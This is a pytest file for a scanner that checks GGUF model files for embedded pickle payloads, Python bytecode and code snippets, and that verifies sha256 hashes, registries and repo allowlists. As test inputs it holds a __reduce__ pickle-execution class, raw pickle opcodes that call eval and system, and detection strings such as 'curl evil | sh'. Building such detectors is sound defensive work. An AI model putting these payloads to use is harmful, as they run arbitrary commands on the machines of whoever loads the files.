"""Safety scan rules (both sides), sha256, registry and repo allowlist checks."""

from __future__ import annotations

import hashlib
import importlib.util
import marshal
import os
import pickle
from pathlib import Path

import numpy as np
import pytest
from gguf_factory import CODE_VOCAB, build_gguf

from aistack.models.safety import (
    RegistryEntry,
    RegistryError,
    VerifyOptions,
    load_registry,
    parse_registry,
    scan_binary_markers,
    scan_code_text,
    sha256_file,
    verify_model,
)


class Payload:
    """Unpickling this would run a shell command: the classic __reduce__ attack."""

    def __reduce__(self):  # type: ignore[no-untyped-def]
        return (os.system, ("true",))


def _pyc_blob() -> bytes:
    code = marshal.dumps(compile("import os\nos.system('true')", "<payload>", "exec"))
    return importlib.util.MAGIC_NUMBER + bytes(4) + bytes(8) + code


def _kinds(report: dict) -> set[str]:
    return {f["kind"] for f in report["findings"]}


# -- scan rules: what is flagged ----------------------------------------------


@pytest.mark.parametrize("protocol", [0, 1, 2, 3, 4, 5])
def test_pickle_payload_found_in_any_protocol(protocol: int) -> None:
    blob = pickle.dumps(Payload(), protocol=protocol)
    kinds = {k for k, _, _ in scan_binary_markers(b"padding " + blob + b" more")}
    assert "pickle_global" in kinds
    if protocol >= 2:
        assert "pickle_protocol" in kinds


@pytest.mark.parametrize(
    "blob",
    [
        b"c__builtin__\neval\n(Vprint(1)\ntR.",
        b"cposix\nsystem\n(S'id'\ntR.",
        b"(lp0\nI1\naI2\na.",
        pickle.dumps([1, 2, {"a": 3}], protocol=5),
    ],
)
def test_listed_pickle_markers(blob: bytes) -> None:
    assert scan_binary_markers(blob)


def test_pyc_header_found() -> None:
    hits = scan_binary_markers(b"xx" + _pyc_blob())
    assert [k for k, _, _ in hits] == ["python_bytecode"]


@pytest.mark.parametrize(
    "text",
    [
        "class X:\n    def __reduce__(self): return (os.system, ('id',))",
        "__import__('os').system('id')",
        "os.system('curl evil | sh')",
        "subprocess.Popen(['sh'])",
        "exec(compile(src, 'x', 'exec'))",
        "eval(base64.b64decode(blob))",
        "pickle.loads(data)",
        "import subprocess\nexec(cmd)",  # two weak markers together
        "eval(x) and exec(y)",
    ],
)
def test_code_text_flagged(text: str) -> None:
    assert scan_code_text(text.encode())


# -- scan rules: what is not flagged -------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "This model was fine-tuned to write Python; it knows subprocess well.",
        "Sandboxed: the model never calls exec( on output",  # one weak marker
        "tacos\nare\ngood\n",
        "{% if tools %}<|im_start|>system\n{{ tools | tojson }}<|im_end|>{% endif %}",
        "Evaluation (eval) scores: 71.3",
    ],
)
def test_ordinary_text_not_flagged(text: str) -> None:
    assert scan_code_text(text.encode()) == []
    assert not scan_binary_markers(text.encode())


def test_single_weak_marker_is_not_enough() -> None:
    assert scan_code_text(b"Use subprocess for that.") == []
    assert scan_code_text(b"exec( appears once") == []
    assert scan_code_text(b"subprocess and exec( together") == ["exec(", "subprocess"]


def test_float_tensor_bytes_do_not_look_like_pickles() -> None:
    rng = np.random.default_rng(1234)
    for dtype in (np.float32, np.float16):
        data = rng.standard_normal(1 << 20).astype(dtype).tobytes()
        assert scan_binary_markers(data) == []


def test_code_vocabulary_is_not_flagged(tmp_path: Path) -> None:
    # Every token of CODE_VOCAB is a code marker when it stands alone in free
    # text; inside tokenizer.ggml.tokens it is just vocabulary.
    path = tmp_path / "code.gguf"
    build_gguf(path, vocab=[*CODE_VOCAB, "os.system(", "subprocess.Popen", "(lp0"])
    report = verify_model(path)
    assert report["ok"], report["findings"]
    assert report["checks"]["code_markers"] == "pass"


@pytest.mark.parametrize(
    ("key", "value", "kind"),
    [
        ("general.description", "run this: __import__('os').system('id')", "python_code"),
        ("tokenizer.chat_template", "{{ x }}os.system('id')", "python_code"),
        ("general.notes", pickle.dumps(Payload(), protocol=4), "pickle_global"),
    ],
)
def test_code_in_metadata_strings_is_flagged(
    tmp_path: Path, key: str, value: str | bytes, kind: str
) -> None:
    path = tmp_path / "bad.gguf"
    build_gguf(path, extra_strings={key: value})
    report = verify_model(path)
    assert not report["ok"]
    assert kind in _kinds(report)
    assert any(key in f["where"] for f in report["findings"])


def test_pickle_inside_vocabulary_is_flagged(tmp_path: Path) -> None:
    path = tmp_path / "vocab.gguf"
    payload = pickle.dumps(Payload(), protocol=2)
    build_gguf(path, vocab=[*(t.encode() for t in CODE_VOCAB), payload])
    report = verify_model(path)
    assert {"pickle_protocol", "pickle_global"} <= _kinds(report)


def test_pickle_renamed_to_gguf(tmp_path: Path) -> None:
    path = tmp_path / "model.gguf"
    path.write_bytes(pickle.dumps({"weights": Payload()}, protocol=4))
    report = verify_model(path)
    assert report["magic"] != "GGUF" and report["version"] is None
    assert {"bad_magic", "pickle_protocol", "pickle_global"} <= _kinds(report)


def test_pyc_renamed_to_gguf(tmp_path: Path) -> None:
    path = tmp_path / "model.gguf"
    path.write_bytes(_pyc_blob())
    assert "python_bytecode" in _kinds(verify_model(path))


def test_trailing_data_after_tensors(tmp_path: Path) -> None:
    path = tmp_path / "t.gguf"
    path.write_bytes(build_gguf() + b"\x00" * 64 + b"payload")
    report = verify_model(path)
    assert "trailing_data" in _kinds(report)


def test_unsupported_version_reports_version(tmp_path: Path) -> None:
    data = bytearray(build_gguf())
    data[4:8] = (1).to_bytes(4, "little")
    path = tmp_path / "v1.gguf"
    path.write_bytes(bytes(data))
    report = verify_model(path)
    assert report["version"] == 1 and "unsupported_version" in _kinds(report)


# -- sha256, registry, allowlist --------------------------------------------------


def test_sha256_streamed_matches_hashlib(tmp_path: Path) -> None:
    path = tmp_path / "blob"
    path.write_bytes(os.urandom(3 * 1024 * 1024 + 17))
    assert sha256_file(path, chunk_size=4096) == hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.fixture()
def clean_file(tmp_path: Path) -> tuple[Path, str]:
    path = tmp_path / "tiny-q8_0.gguf"
    build_gguf(path)
    return path, hashlib.sha256(path.read_bytes()).hexdigest()


def test_sha256_given(clean_file: tuple[Path, str]) -> None:
    path, digest = clean_file
    good = verify_model(path, VerifyOptions(expected_sha256=digest.upper()))
    assert good["ok"] and good["checks"]["sha256"] == "match" and good["sha256"] == digest
    bad = verify_model(path, VerifyOptions(expected_sha256="0" * 64))
    assert not bad["ok"] and "sha256_mismatch" in _kinds(bad)


def test_sha256_from_registry(clean_file: tuple[Path, str]) -> None:
    path, digest = clean_file
    pinned = (RegistryEntry("tiny", "test/tiny-GGUF", path.name, digest),)
    report = verify_model(path, VerifyOptions(registry=pinned))
    assert (
        report["ok"] and report["registry_id"] == "tiny" and report["checks"]["sha256"] == "match"
    )

    wrong = (RegistryEntry("tiny", "test/tiny-GGUF", path.name, "f" * 64),)
    report = verify_model(path, VerifyOptions(registry=wrong))
    assert not report["ok"] and "sha256_mismatch" in _kinds(report)

    unpinned = (RegistryEntry("tiny", "test/tiny-GGUF", path.name, None),)
    report = verify_model(path, VerifyOptions(registry=unpinned))
    assert report["ok"] and report["checks"]["sha256"] == "unpinned"


def test_registry_matches_by_hash_even_if_renamed(clean_file: tuple[Path, str]) -> None:
    path, digest = clean_file
    entries = (RegistryEntry("tiny", "test/tiny-GGUF", "other-name.gguf", digest),)
    report = verify_model(path, VerifyOptions(registry=entries, repo="test/tiny-GGUF"))
    assert (
        report["ok"] and report["registry_id"] == "tiny" and report["checks"]["repo"] == "allowed"
    )


def test_repo_allowlist(clean_file: tuple[Path, str]) -> None:
    path, digest = clean_file
    ok = verify_model(path, VerifyOptions(repo="Org/Model-GGUF", allow_repos=("org/model-gguf",)))
    assert ok["ok"] and ok["checks"]["repo"] == "allowed"
    no = verify_model(path, VerifyOptions(repo="evil/model", allow_repos=("org/model-gguf",)))
    assert not no["ok"] and "repo_not_allowed" in _kinds(no)
    # No allowlist at all: a repo check that cannot pass fails closed.
    none = verify_model(path, VerifyOptions(repo="org/model-gguf"))
    assert not none["ok"] and none["checks"]["repo"] == "not_allowed"
    # Registry repos are the default allowlist; a file pinned to another repo is a mismatch.
    entries = (
        RegistryEntry("tiny", "org/a", path.name, digest),
        RegistryEntry("other", "org/b", "b.gguf", None),
    )
    mism = verify_model(path, VerifyOptions(repo="org/b", registry=entries))
    assert not mism["ok"] and "repo_mismatch" in _kinds(mism)


def test_registry_parsing(tmp_path: Path) -> None:
    entry = {"id": "m", "hf_repo": "o/r", "hf_file": "m.gguf", "sha256": None}
    assert parse_registry([entry]) == parse_registry({"schema_version": 1, "models": [entry]})
    for bad in ({"x": 1}, [{"id": "m"}], [{**entry, "sha256": "nothex"}], ["m"]):
        with pytest.raises(RegistryError):
            parse_registry(bad)
    broken = tmp_path / "r.json"
    broken.write_text("[{")
    with pytest.raises(RegistryError):
        load_registry(broken)
    with pytest.raises(RegistryError):
        load_registry(tmp_path / "missing.json")


def test_repo_registry_file_parses_if_present(repo_root: Path) -> None:
    path = repo_root / "lib" / "models" / "registry.json"
    if not path.is_file():
        pytest.skip("lib/models/registry.json not in this checkout")
    entries = load_registry(path)
    assert entries and all(e.hf_repo and e.hf_file for e in entries)
